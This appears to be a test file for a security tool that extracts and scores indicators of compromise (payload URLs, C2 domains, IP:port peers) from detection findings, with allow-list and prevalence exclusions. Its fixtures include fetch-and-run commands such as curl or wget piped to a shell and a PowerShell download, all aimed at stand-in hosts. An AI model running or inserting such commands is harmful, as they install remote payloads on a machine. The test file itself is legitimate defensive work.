import { describe, expect, it } from 'vitest';
import { AllowList } from '../analytics/network/allowlist.ts';
import type { Finding, FindingSeverity } from '../core/finding.ts';
import { destinationsOf, judgeIndicators, parsePeer, prevalent } from './indicators.ts';

let t = 1_700_000_000_000_000;
function finding(kind: string, severity: FindingSeverity, host: string, peer: string | null, details = {}): Finding {
  t += 1_000_000;
  return {
    kind,
    severity,
    host,
    peer,
    first_seen: t,
    last_seen: t + 1,
    count: 1,
    evidence: [],
    summary_en: `${kind} ${peer ?? ''}`,
    summary_ja: '',
    producer: 'test',
    details,
  };
}
const judge = (fs: Finding[], allow?: AllowList, prevalence?: { byDest: Map<string, number>; hosts: number }) =>
  judgeIndicators(fs, { hostOf: (f) => f.host ?? undefined, allow, prevalence });

describe('parsePeer', () => {
  it('keeps the precision of what the finding names', () => {
    expect(parsePeer('203.0.113.45:8443')).toEqual({
      value: '203.0.113.45:8443',
      type: 'ip-port',
      host: '203.0.113.45',
    });
    expect(parsePeer('[2001:db8::7]:443')).toEqual({
      value: '[2001:db8::7]:443',
      type: 'ip-port',
      host: '2001:db8::7',
    });
    expect(parsePeer('Meet.Webconf.example:8443')?.type).toBe('domain-port');
    expect(parsePeer('http://203.0.113.45/u.sh')).toEqual({
      value: 'http://203.0.113.45/u.sh',
      type: 'url',
      host: '203.0.113.45',
    });
    expect(parsePeer('EVIL.example.')).toEqual({ value: 'evil.example', type: 'domain', host: 'evil.example' });
  });
  it('is never an internal address, a bare name or garbage', () => {
    for (const bad of [
      '10.0.0.5',
      '192.168.1.1:445',
      'fd00::1',
      'FS01',
      'http://10.1.1.1/x',
      'a b.example',
      '1.2.3.4:0',
      'javascript:alert(1)',
    ])
      expect([bad, parsePeer(bad)]).toEqual([bad, undefined]);
  });
});

describe('destinationsOf', () => {
  it('takes payload URLs out of cron jobs, Office child processes and Defender download paths', () => {
    const cron = finding('cron-persistence', 'high', 'WEB01', null, {
      command: 'curl -fsS http://203.0.113.45/u.sh | bash >/dev/null 2>&1',
    });
    expect(destinationsOf(cron).map((d) => d.peer)).toEqual(['http://203.0.113.45/u.sh']);
    const office = finding('office-child-process', 'high', 'PC1', null, {
      command_lines: { 'powershell -c "iwr http://198.51.100.23/invoice.exe -OutFile x"': 1 },
    });
    expect(destinationsOf(office).map((d) => d.peer)).toEqual(['http://198.51.100.23/invoice.exe']);
    const defender = finding('defender-detection', 'high', 'PC1', null, {
      paths: { 'webfile:_C:\\Users\\a\\x.exe|https://dl.evil.example/x.exe|pid:42,ProcessStart:1': 1 },
    });
    expect(destinationsOf(defender).map((d) => d.peer)).toEqual(['https://dl.evil.example/x.exe']);
  });
  it('reads IDS alerts of malware classes only, with the C&C name a signature carries', () => {
    const policy = finding('ids-alert', 'high', 'PC1', '198.51.100.23', {
      signature: 'ET POLICY PE EXE or DLL Windows file download HTTP',
      category: 'Potential Corporate Privacy Violation',
      peers: ['198.51.100.23'],
    });
    expect(destinationsOf(policy)).toEqual([]);
    const c2 = finding('ids-alert', 'high', 'PC1', '10.10.0.3', {
      signature: 'ET MALWARE Observed DNS Query to Known C2 Domain (update-check.example-cdn.net)',
      category: 'A Network Trojan was detected',
      peers: ['10.10.0.3'],
    });
    expect(destinationsOf(c2).map((d) => d.peer)).toEqual(['10.10.0.3', 'update-check.example-cdn.net']);
  });
});

describe('judgeIndicators', () => {
  it('combines independent evidence and names the hosts and findings behind it', () => {
    const [j] = judge([
      finding('beacon', 'high', '10.1.1.1', 'c2.example'),
      finding('beacon', 'high', '10.1.1.2', 'c2.example'),
      finding('rare-user-agent', 'high', '10.1.1.1', 'c2.example', { rare: true, destinations: { 'c2.example': 9 } }),
    ]);
    expect(j!.value).toBe('c2.example');
    // 1 - 0.4 * 0.4 * 0.7
    expect(j!.confidence).toBe(0.89);
    expect(j!.hosts).toEqual(['10.1.1.1', '10.1.1.2']);
    expect(j!.basis.map((b) => b.kind)).toEqual(['beacon', 'beacon', 'rare-user-agent']);
  });

  it('an ip:port counts half for its address; the address counts fully for the port', () => {
    const js = judge([
      finding('connect-nonstandard-port', 'high', '10.1.1.1', '203.0.113.45:8443'),
      finding('ip-direct-http', 'medium', '10.1.1.1', '203.0.113.45'),
    ]);
    const byValue = Object.fromEntries(js.map((j) => [j.value, j.confidence]));
    expect(byValue['203.0.113.45:8443']).toBe(0.63); // 1 - 0.5 * 0.75
    expect(byValue['203.0.113.45']).toBe(0.44); // 1 - 0.75 * 0.75
  });

  it('a payload URL in a cron job makes its host an indicator too', () => {
    const js = judge([
      finding('cron-persistence', 'high', 'WEB01', null, { command: 'wget -qO- http://203.0.113.45/u.sh|sh' }),
    ]);
    expect(js.map((j) => [j.value, j.type, j.role, j.confidence])).toEqual([
      ['203.0.113.45', 'ip', 'download', 0.8],
      ['http://203.0.113.45/u.sh', 'url', 'download', 0.8],
    ]);
  });

  it('off-hours traffic to a registrable domain strengthens the names under it, never makes one', () => {
    const js = judge([
      finding('beacon', 'high', '10.1.1.1', 'update.c2.example'),
      finding('off-hours', 'high', '10.1.1.1', 'c2.example'),
    ]);
    expect(js.map((j) => [j.value, j.confidence])).toEqual([['update.c2.example', 0.68]]);
  });

  it('never blocks what the allow-list names or what most of the organisation uses', () => {
    const allow = new AllowList();
    allow.addText('dest meet.webconf.example:8443\ndest update.vendor.example only=beacon\n', 'allow.txt', []);
    const js = judge(
      [
        finding('beacon', 'critical', '10.1.1.1', 'update.vendor.example'),
        finding('connect-nonstandard-port', 'high', '10.1.1.1', 'meet.webconf.example:8443'),
        finding('connect-nonstandard-port', 'high', '10.1.1.1', 'meet.webconf.example:9443'),
        finding('beacon', 'high', '10.1.1.1', 'cdn.popular.example'),
      ],
      allow,
      { byDest: new Map([['cdn.popular.example', 150]]), hosts: 200 },
    );
    const ex = Object.fromEntries(js.map((j) => [j.value, j.excluded ?? null]));
    expect(ex).toEqual({
      'update.vendor.example': 'allow-list',
      'meet.webconf.example:8443': 'allow-list',
      // the allow-list entry names port 8443 only
      'meet.webconf.example:9443': null,
      'meet.webconf.example': null,
      'cdn.popular.example': 'prevalent',
    });
  });

  it('prevalence: more than half of the organisation, at least five hosts', () => {
    expect(prevalent({ hosts: 101, of: 200 })).toBe(true);
    expect(prevalent({ hosts: 100, of: 200 })).toBe(false);
    expect(prevalent({ hosts: 4, of: 6 })).toBe(false);
    expect(prevalent({ hosts: 60, of: 0 })).toBe(true);
  });
});
